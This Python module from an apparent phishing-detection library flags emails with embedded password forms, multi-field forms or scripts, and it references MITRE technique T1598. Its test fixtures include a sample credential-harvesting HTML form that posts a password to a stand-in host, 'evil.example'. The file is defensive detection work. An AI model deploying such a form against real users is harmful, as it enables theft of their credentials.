"""A form or program inside the message: honest senders lead to their own page for that."""

from collections.abc import Iterator

from amanat.detect.mail import Mail, Ours
from amanat.detect.signal import Sign, Signal, a_mail

FIELD = "It asks for a password in a form inside the message."
FORM = "It has a form inside the message."
SCRIPT = "It carries a program that would run when it is opened."


def look(mail: Mail, ours: Ours) -> Iterator[Sign]:
    if "password" in mail.forms:
        yield Sign("hard", FIELD)
    elif len([kind for kind in mail.forms if kind not in ("hidden", "submit", "button", "image", "reset")]) >= 2:
        yield Sign("weak", FORM)
    if mail.has_script:
        yield Sign("weak", SCRIPT)


SIGNAL = Signal(
    look=look,
    sentences=(FIELD, FORM, SCRIPT),
    source="https://attack.mitre.org/techniques/T1598/",
    examples=(
        a_mail('<form action="https://evil.example"><input name="u"><input type="password"></form>', kind="html"),
        a_mail('<form action="https://shop.example"><input name="u"><select><option>1</select></form>', kind="html"),
        a_mail('<p onclick="x()">Hello</p>', kind="html"),
    ),
    not_examples=(a_mail(), a_mail('<form action="https://shop.example"><input name="q"><input type="submit"></form>', kind="html")),
)
